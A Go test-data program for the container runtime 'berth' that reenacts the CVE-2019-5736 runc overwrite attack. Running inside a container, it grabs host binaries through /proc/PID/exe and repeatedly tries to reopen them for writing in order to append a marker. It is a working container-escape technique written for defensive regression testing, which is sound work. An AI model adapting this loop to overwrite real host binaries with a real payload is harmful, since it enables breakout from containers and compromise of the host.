// Command watcher is the attacker of CVE-2019-5736 ("runc overwrite"), for
// berth's end-to-end security tests (e2e/security_test.go). It is built by
// the tests into a static binary and run inside a container; the go tool
// ignores it otherwise (it lives under testdata).
//
// In a tight loop it scans /proc for every process but itself, opens each
// one's /proc/PID/exe and keeps the descriptor when the file is not one of
// the container's own files (a berth binary of the host, or whatever berth
// runs from instead). For every kept descriptor it tries, again and again,
// to re-open /proc/self/fd/N for writing (O_WRONLY|O_APPEND, then O_RDWR) and
// to append a marker: that fails with ETXTBSY while the binary runs, and
// succeeds after the process has exited unless the file is protected.
//
// It prints "READY" once it polls, "OPENED pid exe (cmdline)" for each
// foreign binary it holds, "WROTE pid exe" for each one it managed to
// write, and a last line "attempts=N opened=M wrote=K scans=S hits=H
// errors=..." (hits: how many times a scan found a foreign binary) when it
// stops: when its standard input reaches EOF (-stdin), when the file -stop
// exists, or after -limit.
package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
)

const marker = "\nBERTH-E2E-OVERWRITTEN\n"

type held struct {
	fd    int
	pid   int
	exe   string
	wrote bool
	// retired: every way to open it for writing failed for a reason that
	// lasts (EROFS, EPERM, ...), not ETXTBSY: no use trying again, and
	// skipping it keeps the scan fast.
	retired bool
	hits    int // scans that found it
}

type fileID struct{ dev, ino uint64 }

func main() {
	stopFile := flag.String("stop", "/stop", "stop once this file exists")
	useStdin := flag.Bool("stdin", false, "stop when standard input reaches EOF")
	limit := flag.Duration("limit", 100*time.Second, "stop after this long in any case")
	final := flag.Int("final", 2000, "write attempts per held binary after being told to stop")
	flag.Parse()

	var stop atomic.Bool
	if *useStdin {
		go func() {
			_, _ = io.Copy(io.Discard, os.Stdin)
			stop.Store(true)
		}()
	}
	self := os.Getpid()
	out := bufio.NewWriter(os.Stdout)
	say := func(format string, args ...any) {
		fmt.Fprintf(out, format+"\n", args...)
		out.Flush()
	}

	own := map[fileID]bool{}     // decided: true = the container's own file
	byFile := map[fileID]*held{} // the foreign binaries we hold
	var order []*held
	errs := map[string]int{}
	attempts, opened, wrote, scans, hits := 0, 0, 0, 0, 0
	var live []*held // held binaries still worth trying

	tryWrite := func(h *held) {
		if h.wrote || h.retired {
			return
		}
		lasting := 0
		for _, flags := range []int{syscall.O_WRONLY | syscall.O_APPEND, syscall.O_RDWR} {
			attempts++
			fd, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(h.fd), flags|syscall.O_CLOEXEC, 0)
			if err != nil {
				errs["open:"+errName(err)]++
				if err != syscall.ETXTBSY {
					lasting++
				}
				continue
			}
			if flags&syscall.O_APPEND == 0 {
				if _, err := syscall.Seek(fd, 0, io.SeekEnd); err != nil {
					errs["seek:"+errName(err)]++
				}
			}
			n, err := syscall.Write(fd, []byte(marker))
			syscall.Close(fd)
			if err != nil || n != len(marker) {
				errs["write:"+errName(err)]++
				lasting++
				continue
			}
			h.wrote = true
			wrote++
			say("WROTE %d %s", h.pid, h.exe)
			return
		}
		if lasting == 2 {
			h.retired = true
			syscall.Close(h.fd)
		}
	}

	deadline := time.Now().Add(*limit)
	say("READY")
	for {
		if stop.Load() || time.Now().After(deadline) {
			break
		}
		if scans%64 == 0 {
			if _, err := os.Stat(*stopFile); err == nil {
				break
			}
		}
		scans++
		for _, pid := range pids() {
			if pid == self {
				continue
			}
			fd, err := syscall.Open("/proc/"+strconv.Itoa(pid)+"/exe", syscall.O_RDONLY|syscall.O_CLOEXEC, 0)
			if err != nil {
				if err == syscall.ENOENT || err == syscall.ESRCH {
					continue // gone, or a kernel thread
				}
				errs["exe:"+errName(err)]++
				continue
			}
			var st syscall.Stat_t
			if err := syscall.Fstat(fd, &st); err != nil {
				syscall.Close(fd)
				continue
			}
			id := fileID{st.Dev, st.Ino}
			if h := byFile[id]; h != nil {
				h.hits++
				hits++
				syscall.Close(fd)
				continue
			}
			exe, _ := os.Readlink("/proc/" + strconv.Itoa(pid) + "/exe")
			isOwn, decided := own[id]
			if !decided {
				// The container's own files resolve, by the name the link
				// shows, to the same file inside the container.
				var pst syscall.Stat_t
				isOwn = syscall.Stat(exe, &pst) == nil && pst.Dev == st.Dev && pst.Ino == st.Ino
				own[id] = isOwn
			}
			if isOwn {
				syscall.Close(fd)
				continue
			}
			h := &held{fd: fd, pid: pid, exe: exe, hits: 1}
			byFile[id] = h
			order = append(order, h)
			live = append(live, h)
			opened++
			hits++
			say("OPENED %d %s (%s)", pid, exe, cmdline(pid))
		}
		keep := live[:0]
		for _, h := range live {
			tryWrite(h)
			if !h.wrote && !h.retired {
				keep = append(keep, h)
			}
		}
		live = keep
	}
	// Told to stop: the processes are gone by now, so ETXTBSY no longer
	// protects their binaries. Keep trying for a while.
	for i := 0; i < *final; i++ {
		for _, h := range order {
			tryWrite(h)
		}
	}
	for _, h := range order {
		if h.wrote {
			say("HITS %d %s %d", h.pid, h.exe, h.hits)
		}
	}
	var es []string
	for k, v := range errs {
		es = append(es, k+":"+strconv.Itoa(v))
	}
	sort.Strings(es)
	say("attempts=%d opened=%d wrote=%d scans=%d hits=%d errors=%s", attempts, opened, wrote, scans, hits, strings.Join(es, ","))
}

// pids lists the numeric entries of /proc, reading the directory with
// getdents directly: this loop must be fast to catch a short-lived process.
func pids() []int {
	fd, err := syscall.Open("/proc", syscall.O_RDONLY|syscall.O_DIRECTORY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return nil
	}
	defer syscall.Close(fd)
	var out []int
	buf := make([]byte, 32<<10)
	for {
		n, err := syscall.ReadDirent(fd, buf)
		if err != nil || n <= 0 {
			return out
		}
		var names []string
		_, _, names = syscall.ParseDirent(buf[:n], -1, names)
		for _, name := range names {
			if name[0] < '0' || name[0] > '9' {
				continue
			}
			if pid, err := strconv.Atoi(name); err == nil {
				out = append(out, pid)
			}
		}
	}
}

// cmdline is a process's command line, shortened, for the report.
func cmdline(pid int) string {
	b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
	s := strings.TrimSpace(strings.ReplaceAll(string(b), "\x00", " "))
	if len(s) > 80 {
		s = s[:80] + "..."
	}
	return s
}

func errName(err error) string {
	if err == nil {
		return "short"
	}
	if e, ok := err.(syscall.Errno); ok {
		switch e {
		case syscall.ETXTBSY:
			return "ETXTBSY"
		case syscall.EACCES:
			return "EACCES"
		case syscall.EPERM:
			return "EPERM"
		case syscall.EROFS:
			return "EROFS"
		case syscall.ENOENT:
			return "ENOENT"
		case syscall.EINVAL:
			return "EINVAL"
		}
		return "errno" + strconv.Itoa(int(e))
	}
	return strings.ReplaceAll(err.Error(), " ", "_")
}
